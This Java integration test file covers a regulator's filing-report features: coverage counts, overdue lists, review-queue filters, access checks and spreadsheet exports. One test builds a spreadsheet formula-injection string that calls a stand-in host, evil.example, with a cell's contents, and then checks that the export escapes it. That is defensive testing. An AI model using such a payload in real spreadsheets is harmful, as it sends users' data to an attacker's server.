package org.inspectorate.filing.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.is;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.authentication;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.time.Clock;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.inspectorate.filing.FilingState;
import org.inspectorate.filing.GradeLevel;
import org.inspectorate.filing.NetworkUnit;
import org.inspectorate.filing.NetworkUnitFixtures;
import org.inspectorate.filing.NetworkUnitSummary;
import org.inspectorate.filing.NetworkUnits;
import org.inspectorate.filing.UnitQuery;
import org.inspectorate.organisation.Actor;
import org.inspectorate.organisation.OrganisationFixtures;
import org.inspectorate.organisation.OrganisationType;
import org.inspectorate.organisation.Organisations;
import org.inspectorate.organisation.Province;
import org.inspectorate.organisation.Role;
import org.inspectorate.support.Codes;
import org.inspectorate.support.DatabaseTest;
import org.inspectorate.system.PageRequest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.test.web.servlet.request.AbstractMockHttpServletRequestBuilder;

@DatabaseTest
class FilingReportsIntegrationTest {

    private static final Province HOME = Province.QINGHAI;
    private static final Province OTHER = Province.NINGXIA;

    @Autowired
    private Clock clock;

    @Autowired
    MockMvc mvc;
    @Autowired
    Organisations organisations;
    @Autowired
    NetworkUnits units;
    @Autowired
    FilingReports reports;
    @Autowired
    JdbcClient jdbc;

    private Actor actor(OrganisationType type, Province province, Role role) {
        return OrganisationFixtures.actor(OrganisationFixtures.organisation(organisations, type, province, null), role);
    }

    private ResultActions call(Actor actor, AbstractMockHttpServletRequestBuilder<?> request) throws Exception {
        return mvc.perform(request.with(authentication(OrganisationFixtures.authentication(actor))));
    }

    private long[] counts(Actor actor, FilingReports.Grouping by, String province, String type, GradeLevel level) {
        long[] c = new long[4];
        for (FilingReports.CoverageRow r : reports.coverage(actor, new FilingReports.CoverageQuery(by, null, null, null,
                null))) {
            if ((province == null || province.equals(r.provinceCode()))
                    && (type == null || type.equals(r.operatorType())) && (level == null || level == r.level())) {
                c[0] += r.filed();
                c[1] += r.pending();
                c[2] += r.returned();
                c[3] += r.draft();
            }
        }
        return c;
    }

    private static long[] minus(long[] a, long[] b) {
        long[] d = new long[a.length];
        for (int i = 0; i < a.length; i++) {
            d[i] = a[i] - b[i];
        }
        return d;
    }

    /** In {@code operator}'s organisation: 2 drafts, 1 submitted, 1 returned, 1 filed (level 3.1, overdue dates). */
    private List<Long> knownUnits(Actor operator, Actor officer, String prefix) {
        List<Long> ids = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            ids.add(units.create(operator, NetworkUnitFixtures.unitInput(prefix + "-" + i)).id());
        }
        units.submit(operator, ids.get(2), 0);
        NetworkUnit returned = units.submit(operator, ids.get(3), 0);
        units.returnForCorrection(officer, ids.get(3), returned.version(), "缺少拓扑图");
        NetworkUnit filed = units.submit(operator, ids.get(4), 0);
        units.accept(officer, ids.get(4), filed.version());
        return ids;
    }

    @Test
    void coverageCountsEachStateAndAProvincialOfficerSeesOnlyTheirProvince() throws Exception {
        Actor ministry = actor(OrganisationType.MINISTRY_BUREAU, null, Role.MINISTRY_OFFICER);
        Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
        Actor otherOfficer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, OTHER, Role.PROVINCIAL_OFFICER);
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        Actor otherOperator = actor(OrganisationType.INTERNET_ENTERPRISE, OTHER, Role.OPERATOR_ADMIN);
        String type = OrganisationType.INTERNET_ENTERPRISE.name();

        long[] countryHome = counts(ministry, FilingReports.Grouping.PROVINCE, HOME.code(), null, null);
        long[] countryOther = counts(ministry, FilingReports.Grouping.PROVINCE, OTHER.code(), null, null);
        long[] provinceAll = counts(officer, FilingReports.Grouping.TYPE, null, null, null);
        long[] provinceCell = counts(officer, FilingReports.Grouping.TYPE_LEVEL, null, type, GradeLevel.LEVEL_3_1);

        knownUnits(operator, officer, "覆盖");
        knownUnits(otherOperator, otherOfficer, "他省");

        assertThat(minus(counts(ministry, FilingReports.Grouping.PROVINCE, HOME.code(), null, null), countryHome))
                .containsExactly(1, 1, 1, 2);
        assertThat(minus(counts(ministry, FilingReports.Grouping.PROVINCE, OTHER.code(), null, null), countryOther))
                .containsExactly(1, 1, 1, 2);
        assertThat(minus(counts(officer, FilingReports.Grouping.TYPE_LEVEL, null, type, GradeLevel.LEVEL_3_1),
                provinceCell)).containsExactly(1, 1, 1, 2);
        // the other province's five units are not among the provincial officer's numbers
        assertThat(minus(counts(officer, FilingReports.Grouping.TYPE, null, null, null), provinceAll))
                .containsExactly(1, 1, 1, 2);
        assertThat(reports.coverage(officer, new FilingReports.CoverageQuery(FilingReports.Grouping.PROVINCE, null,
                null, null, null))).extracting(FilingReports.CoverageRow::provinceCode).containsOnly(HOME.code());

        // the API ignores a provincial officer's attempt to ask for another province
        call(officer, get("/api/v1/filings/coverage").param("by", "PROVINCE").param("province", OTHER.code()))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.by").value("PROVINCE"))
                .andExpect(jsonPath("$.rows[*].province", everyItem(is(HOME.code()))));
        call(officer, get("/filings/coverage")).andExpect(status().isOk())
                .andExpect(content().string(containsString("id=\"coverage-chart\"")))
                .andExpect(content().string(containsString("data-series=")))
                .andExpect(content().string(containsString("id=\"type\"")))
                .andExpect(content().string(containsString("id=\"level\"")));
    }

    @Test
    void overdueFilingsAreThoseDueBeforeTodayAndNotFiledInTheOfficersProvince() throws Exception {
        Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
        Actor otherOfficer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, OTHER, Role.PROVINCIAL_OFFICER);
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        Actor otherOperator = actor(OrganisationType.INTERNET_ENTERPRISE, OTHER, Role.OPERATOR_ADMIN);
        List<Long> home = knownUnits(operator, officer, "逾期");
        List<Long> other = knownUnits(otherOperator, otherOfficer, "他省逾期");
        long notDue = units.create(operator,
                NetworkUnitFixtures.minimalUnitInput("未到期", LocalDate.now(clock).minusDays(2))).id();

        List<Long> listed = new ArrayList<>();
        for (int page = 0; ; page++) {
            var result = reports.overdue(officer, new FilingReports.OverdueQuery(null, null, null, null),
                    new PageRequest(page, 200, "dueOn", true));
            result.items().forEach(f -> listed.add(f.unitId()));
            assertThat(result.items()).allSatisfy(f -> {
                assertThat(f.provinceCode()).isEqualTo(HOME.code());
                assertThat(f.state()).isNotEqualTo(FilingState.FILED);
                assertThat(f.dueOn()).isBefore(LocalDate.now(clock));
                assertThat(f.daysOverdue()).isPositive();
            });
            if (!result.hasNext()) {
                break;
            }
        }
        assertThat(listed).contains(home.get(0), home.get(1), home.get(2), home.get(3))
                .doesNotContain(home.get(4), notDue).doesNotContainAnyElementsOf(other);

        call(officer, get("/filings/overdue").param("sort", "name").param("asc", "false")).andExpect(status().isOk())
                .andExpect(content().string(containsString("逾期-0")))
                .andExpect(content().string(containsString("id=\"type\"")))
                .andExpect(content().string(containsString("id=\"level\"")));
        call(officer, get("/api/v1/filings/overdue").param("size", "200").param("kind", "INITIAL"))
                .andExpect(status().isOk()).andExpect(jsonPath("$.items[*].province", everyItem(is(HOME.code()))));
    }

    @Test
    void exportsAreValidWorkbooksWithTheListedRowsEscapedAndAudited() throws Exception {
        Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        String evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")-" + Codes.username("n").replace("_", "");
        NetworkUnit unit = units.create(operator, NetworkUnitFixtures.unitInput(evil));
        units.submit(operator, unit.id(), unit.version());

        byte[] queue = call(officer, get("/filings/review-queue.xlsx").param("q", evil.substring(evil.length() - 12)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        List<List<String>> queueRows = rows(queue);
        assertThat(queueRows).hasSize(2);
        assertThat(queueRows.get(1).get(0)).isEqualTo("'" + evil);

        byte[] coverage = call(officer, get("/filings/coverage.xlsx").param("by", "TYPE_LEVEL"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        List<FilingReports.CoverageRow> expected = reports.coverage(officer, new FilingReports.CoverageQuery(
                FilingReports.Grouping.TYPE_LEVEL, null, null, null, null));
        List<List<String>> coverageRows = rows(coverage);
        assertThat(coverageRows).hasSize(1 + expected.size());
        assertThat(coverageRows.get(0)).containsExactly("单位类型", "安全防护级别", "已备案", "待审核", "已退回", "草稿", "合计",
                "备案率 (%)");
        for (int i = 0; i < expected.size(); i++) {
            assertThat(coverageRows.get(i + 1).get(6)).isEqualTo(String.valueOf((double) expected.get(i).total()));
        }

        byte[] overdue = call(officer, get("/filings/overdue.xlsx").param("kind", "INITIAL"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
        assertThat(rows(overdue)).anySatisfy(r -> assertThat(r.get(0)).isEqualTo("'" + evil));

        for (String list : List.of("review-queue", "coverage", "overdue")) {
            assertThat(jdbc.sql("""
                    SELECT COUNT(*) FROM audit_entry WHERE action = 'filing.exported' AND subject = :s AND actor = :a""")
                    .param("s", "filing-list:" + list).param("a", officer.username()).query(Long.class).single())
                    .as(list).isEqualTo(1);
        }
    }

    @Test
    void theReviewQueueFiltersAndSorts() throws Exception {
        Actor officer = actor(OrganisationType.PROVINCIAL_ADMINISTRATION, HOME, Role.PROVINCIAL_OFFICER);
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        String tag = Codes.username("q").replace("_", "");
        for (String name : List.of("B-" + tag, "A-" + tag)) {
            NetworkUnit u = units.create(operator, NetworkUnitFixtures.unitInput(name));
            units.submit(operator, u.id(), u.version());
        }
        var page = units.reviewQueue(officer, new UnitQuery(null, GradeLevel.LEVEL_3_1, null, tag),
                new PageRequest(0, 20, "name", true));
        assertThat(page.items()).extracting(NetworkUnitSummary::name).containsExactly("A-" + tag, "B-" + tag);
        assertThat(units.reviewQueue(officer, new UnitQuery(null, GradeLevel.LEVEL_4, null, tag),
                new PageRequest(0, 20, null, true)).total()).isZero();
        call(officer, get("/filings/review-queue").param("q", tag).param("level", "3.1").param("sort", "name"))
                .andExpect(status().isOk()).andExpect(content().string(containsString("A-" + tag)));
    }

    @Test
    void operatorsAndOthersGet404FromTheRegulatorsViews() throws Exception {
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        Actor inspector = actor(OrganisationType.TESTING_AGENCY, null, Role.INSPECTOR);
        for (Actor a : List.of(operator, inspector)) {
            for (String path : List.of("/filings/coverage", "/filings/coverage.xlsx", "/filings/overdue",
                    "/filings/overdue.xlsx", "/api/v1/filings/coverage", "/api/v1/filings/overdue")) {
                call(a, get(path)).andExpect(status().isNotFound());
            }
        }
    }

    @Test
    void theReviewQueueRefusesThoseWhoReviewNoFilingsAlikeOnItsPageItsApiAndItsDownloads() throws Exception {
        Actor operator = actor(OrganisationType.INTERNET_ENTERPRISE, HOME, Role.OPERATOR_ADMIN);
        Actor inspector = actor(OrganisationType.TESTING_AGENCY, null, Role.INSPECTOR);
        for (Actor a : List.of(operator, inspector)) {
            for (String path : List.of("/filings/review-queue", "/api/v1/filings/review-queue",
                    "/filings/review-queue.xlsx", "/filings/review-queue.csv")) {
                call(a, get(path)).andExpect(status().isForbidden());
            }
        }
    }

    private static List<List<String>> rows(byte[] xlsx) throws Exception {
        List<List<String>> rows = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Sheet sheet = workbook.getSheetAt(0);
            DataFormatter f = new DataFormatter();
            for (Row row : sheet) {
                List<String> cells = new ArrayList<>();
                for (int c = 0; c < row.getLastCellNum(); c++) {
                    var cell = row.getCell(c);
                    cells.add(cell == null ? "" : cell.getCellType() == CellType.NUMERIC
                            ? String.valueOf(cell.getNumericCellValue()) : f.formatCellValue(cell));
                }
                rows.add(cells);
            }
        }
        return rows;
    }

}
